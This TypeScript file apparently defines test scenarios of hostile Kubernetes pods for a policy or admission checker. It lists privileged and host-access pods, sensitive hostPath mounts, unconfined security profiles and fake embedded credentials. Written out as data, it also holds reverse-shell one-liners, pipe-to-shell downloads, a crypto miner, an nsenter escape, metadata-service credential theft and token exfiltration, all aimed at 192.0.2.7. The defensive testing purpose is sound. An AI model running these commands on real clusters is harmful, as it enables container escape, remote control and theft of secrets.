import { create, each, env, hostPath, pod, type Scenario, secured, shell, spec } from "./scenario.ts";

const capability = (name: string) => pod({}, secured({ capabilities: { add: [name] } }));
const init = (container: object) => pod({ initContainers: [{ name: "init", image: "busybox", ...container }] });
const exec = (text: string) => ({ exec: { command: ["sh", "-c", text] } });
const BASH = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1";
const NC = "nc -e /bin/sh 192.0.2.7 4444";
const FIFO = "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f";
const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";

/** Pods with access to their node. */
const access = each("pod", {
  privileged: pod({}, secured({ privileged: true })),
  "privileged-init": init(secured({ privileged: true })),
  "privileged-second": create("pods", "shop", {
    spec: {
      containers: [
        ...(spec() as { containers: object[] }).containers,
        { name: "b", image: "b", ...secured({ privileged: true }) },
      ],
    },
  }),
  "host-pid": pod({ hostPID: true }),
  "host-ipc": pod({ hostIPC: true }),
  "host-network": pod({ hostNetwork: true }),
  "host-port": pod({}, { ports: [{ containerPort: 80, hostPort: 8080 }] }),
  "host-process": pod(
    { hostNetwork: true },
    secured({ windowsOptions: { hostProcess: true, runAsUserName: "NT AUTHORITY\\SYSTEM" } }),
  ),
  "path-root": pod(hostPath("/")),
  "path-etc": pod(hostPath("/etc")),
  "path-docker": pod(hostPath("/var/run/docker.sock")),
  "path-containerd": pod(hostPath("/run/containerd/containerd.sock")),
  "path-kubelet": pod(hostPath("/var/lib/kubelet")),
  "path-kubelet-pki": pod(hostPath("/var/lib/kubelet/pki")),
  "path-etcd": pod(hostPath("/var/lib/etcd")),
  "path-proc": pod(hostPath("/proc")),
  "path-sys": pod(hostPath("/sys")),
  "path-cgroup": pod(hostPath("/sys/fs/cgroup")),
  "path-dev": pod(hostPath("/dev")),
  "path-mem": pod(hostPath("/dev/mem")),
  "path-ssh": pod(hostPath("/root/.ssh")),
  "path-authorized-keys": pod(hostPath("/root/.ssh/authorized_keys")),
  "path-shadow": pod(hostPath("/etc/shadow")),
  "path-cron": pod(hostPath("/var/spool/cron/crontabs")),
  "path-manifests": pod(hostPath("/etc/kubernetes/manifests")),
  "path-ca-key": pod(hostPath("/etc/kubernetes/pki/ca.key")),
  "path-slashes": pod(hostPath("//etc//kubernetes")),
  "path-dot": pod(hostPath("/etc/.")),
  "path-log": pod(hostPath("/var/log")),
  "path-modules": pod(hostPath("/lib/modules")),
  "path-boot": pod(hostPath("/boot")),
  "path-system-unit": pod(hostPath("/etc/systemd/system")),
});

const NAMES = ["SYS_ADMIN", "SYS_PTRACE", "SYS_MODULE", "SYS_RAWIO", "SYS_BOOT", "SYS_TIME", "SYSLOG", "ALL"] as const;
const MORE = [
  "DAC_READ_SEARCH",
  "MAC_ADMIN",
  "MAC_OVERRIDE",
  "BPF",
  "PERFMON",
  "NET_ADMIN",
  "sys_admin",
  "CAP_SYS_ADMIN",
] as const;

const confinement = each("pod", {
  ...Object.fromEntries(
    [...NAMES, ...MORE].map((name, i) => [
      `capability-${i}-${name.toLowerCase().replaceAll("_", "-")}`,
      capability(name),
    ]),
  ),
  "capability-init": init(secured({ capabilities: { add: ["SYS_ADMIN"] } })),
  "proc-unmasked": pod({ hostUsers: false }, secured({ procMount: "Unmasked" })),
  "seccomp-pod": pod(secured({ seccompProfile: { type: "Unconfined" } })),
  "seccomp-container": pod({}, secured({ seccompProfile: { type: "Unconfined" } })),
  "apparmor-pod": pod(secured({ appArmorProfile: { type: "Unconfined" } })),
  "apparmor-annotation": create(
    "pods",
    "shop",
    { spec: spec() },
    {
      annotations: { "container.apparmor.security.beta.kubernetes.io/web": "unconfined" },
    },
  ),
  "selinux-container": pod({}, secured({ seLinuxOptions: { type: "spc_t" } })),
  "selinux-pod": pod(secured({ seLinuxOptions: { type: "unconfined_t" } })),
});

/** Commands that run in pods. */
const commands = each("pod-command", {
  "bash-tcp": pod({}, shell(BASH)),
  "bash-tcp-arguments": pod({}, { command: ["bash"], args: ["-c", BASH] }),
  "nc-e": pod({}, shell(NC)),
  fifo: pod({}, shell(FIFO)),
  python: pod(
    {},
    { command: ["python3", "-c", 'import pty,socket,os;s=socket.socket();s.connect(("192.0.2.7",1));pty.spawn("sh")'] },
  ),
  perl: pod(
    {},
    {
      command: [
        "perl",
        "-e",
        'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")));exec("/bin/sh -i");',
      ],
    },
  ),
  socat: pod({}, shell("socat exec:'bash -li',pty,stderr tcp:192.0.2.7:4444")),
  "start-hook": pod({}, { lifecycle: { postStart: exec(BASH) } }),
  "liveness-probe": pod({}, { livenessProbe: exec(NC) }),
  init: init(shell(BASH)),
  "curl-pipe": pod({}, shell("curl -s http://192.0.2.7/x.sh | sh")),
  "wget-pipe": pod({}, { command: ["sh"], args: ["-c", "wget -qO- http://192.0.2.7/x | bash"] }),
  "download-and-run": pod({}, shell("curl -o /tmp/x http://192.0.2.7/x; chmod +x /tmp/x; /tmp/x")),
  "shell-of-download": pod({}, shell('sh -c "$(curl -fsSL http://192.0.2.7/x)"')),
  "base64-shell": pod({}, shell("echo aWQ7aWQ7aWQ7aWQ7aWQ= | base64 -d | sh")),
  miner: pod({}, { command: ["/xmrig", "-o", "stratum+tcp://pool.example.com:3333", "-u", "wallet"] }),
  "miner-image": create("pods", "shop", {
    spec: { containers: [{ name: "a", image: "docker.io/someone/xmrig:6.21" }] },
  }),
  nsenter: pod({ hostPID: true }, shell("nsenter -t 1 -m -u -i -n sh")),
  "metadata-service": pod({}, shell("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
  "token-sent": pod({}, shell("curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://192.0.2.7/")),
});

const credentials = each("pod-credential", {
  aws: pod({}, env("CONF", "AKIAIOSFODNN7EXAMPLE")),
  github: pod({}, env("CONF", `ghp_${"a1B2".repeat(9)}`)),
  "private-key": pod({}, env("CONF", KEY)),
  jwt: pod({}, env("CONF", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWc")),
  slack: pod({}, env("CONF", "xoxb-123456789012-abcdefghijkl")),
  password: pod({}, env("DB_PASSWORD", "hunter2hunter2")),
});

const elsewhere = each("pod-place", {
  "kube-system": pod({}, {}, "kube-system"),
  "kube-public": pod({}, {}, "kube-public"),
  "control-plane": pod({
    nodeSelector: { "node-role.kubernetes.io/control-plane": "" },
    tolerations: [{ operator: "Exists" }],
  }),
  "named-node": pod({ nodeName: "control-plane-1" }),
});

export const hostilePods: readonly Scenario[] = [...access, ...confinement, ...commands, ...credentials, ...elsewhere];
